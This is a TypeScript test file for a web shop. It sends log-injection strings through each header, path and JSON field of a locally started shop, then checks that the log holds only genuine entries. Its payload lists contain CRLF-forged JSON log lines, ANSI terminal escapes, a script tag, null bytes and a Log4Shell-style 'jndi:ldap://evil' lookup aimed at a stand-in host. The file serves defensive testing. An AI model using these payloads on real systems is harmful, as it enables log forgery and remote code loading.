import { allOperations } from '../../contract/all-operations.ts'
import { startShop } from '../../e2e/support/shop.ts'
import type { LongRun } from '../long-run.ts'
import { sendRaw, statusesOf } from './raw-http.ts'
import { Tries } from './tries.ts'

/** A line that looks like the shop's own, and control sequences that a terminal or log viewer would execute. */
const forged = '{"level":30,"msg":"FORGED"}'
const escapes = '\u001b[31mFORGED\u001b[0m'
const texts = [
  `a\r\n${forged}\r\n`,
  escapes,
  `"}\n${forged}`,
  '\u2028FORGED\u2029',
  `$${'{'}jndi:ldap://evil/FORGED}`,
  '%0d%0aFORGED',
  '<script>FORGED</script>',
  '\u0000FORGED',
]

/** Bytes that HTTP allows in a header's value: no CR, LF or null. */
const headerTexts = [
  '"}{"level":30,"msg":"FORGED"}',
  `\u001b[31mFORGED`,
  '%0d%0aFORGED',
  `$${'{'}jndi:ldap://evil/FORGED}`,
  'FORGED\tFORGED',
  `FORGED\u00ff\u0085`,
]
const headerNames = [
  'user-agent',
  'referer',
  'origin',
  'x-request-id',
  'x-forwarded-for',
  'x-forwarded-host',
  'forwarded',
  'cookie',
  'authorization',
  'content-type',
  'idempotency-key',
  'accept-language',
  'traceparent',
  'host',
]

/** Invented keys, because without keys the shop has no webhook. */
const settings = {
  RATE_LIMIT_FACTOR: '1000',
  TRUSTED_PROXIES: '127.0.0.1',
  STRIPE_SECRET_KEY: 'sk_test_0123456789abcdef',
  STRIPE_PUBLISHABLE_KEY: 'pk_test_0123456789abcdef',
  STRIPE_WEBHOOK_SECRET: 'whsec_0123456789abcdef',
}

export const logInjection: LongRun = {
  name: 'log-injection',
  about: 'sends line ends, terminal escapes and JSON in each header, path and field, then reads the log',
  async run() {
    const shop = await startShop(settings)
    const port = Number(new URL(shop.url).port)
    let requests = 0
    const send = async (bytes: string) => {
      const statuses = statusesOf(await sendRaw(port, bytes, 2_000))
      requests += statuses.length
      return statuses
    }
    const missing: string[] = []
    try {
      for (const text of headerTexts) {
        for (const name of headerNames) {
          const host = name === 'host' ? '' : 'Host: shop\r\n'
          await send(`GET /api/nowhere HTTP/1.1\r\n${host}${name}: ${text}\r\nConnection: close\r\n\r\n`)
        }
      }
      for (const text of texts) {
        for (const { method, path } of allOperations) {
          const filled = path.replace(/\{\w+\}|:\w+/g, encodeURIComponent(text))
          await send(requestWith(method, `/api${filled}`, text))
        }
        const others = [
          '/auth/sign-in/email',
          '/auth/sign-up/email',
          '/auth/forgot-password',
          '/auth/reset-password',
          '/auth/verify-address',
          '/images',
          '/payments/webhook',
        ]
        for (const path of others) {
          if ((await send(requestWith('POST', path, text))).includes(404)) missing.push(path)
        }
        await send(requestWith('GET', `/tool/${encodeURIComponent(text)}`, text))
      }
      const lines = shop
        .output()
        .split('\n')
        .filter((line) => line.startsWith('{') || line.includes('FORGED'))
      return [
        {
          what: 'calls outside the API that do not exist',
          value: [...new Set(missing)].join(', ') || '0',
          bar: '0',
          holds: missing.length === 0,
        },
        { what: 'requests answered', value: String(requests), bar: 'over 1,000', holds: requests > 1_000 },
        examine(lines),
      ]
    } finally {
      await shop.stop()
    }
  },
}

/** Checks that each line is one JSON object with the shop's own fields, and that no line contains a sent text. */
function examine(lines: readonly string[]) {
  const tries = new Tries('log lines that the shop did not write as an entry, or that repeat a sent text')
  for (const line of lines) {
    const isEntry = hasTime(line) && !line.includes('FORGED') && !line.includes('\u001b')
    tries.expect(isEntry, line.slice(0, 200))
  }
  return tries.figure()
}

function hasTime(line: string): boolean {
  try {
    const entry: unknown = JSON.parse(line)
    return typeof entry === 'object' && entry !== null && 'time' in entry && 'level' in entry
  } catch {
    return false
  }
}

function requestWith(method: string, path: string, text: string): string {
  const hasBody = method !== 'GET' && method !== 'DELETE'
  const fields = ['email', 'name', 'password', 'message', 'kind', 'Id', 'token', 'quantity', 'review']
  const body = hasBody ? JSON.stringify(Object.fromEntries(fields.map((field) => [field, text]))) : ''
  const bytes = Buffer.from(body)
  return `${method} ${path} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: ${bytes.length}\r\n\r\n${bytes.toString('latin1')}`
}
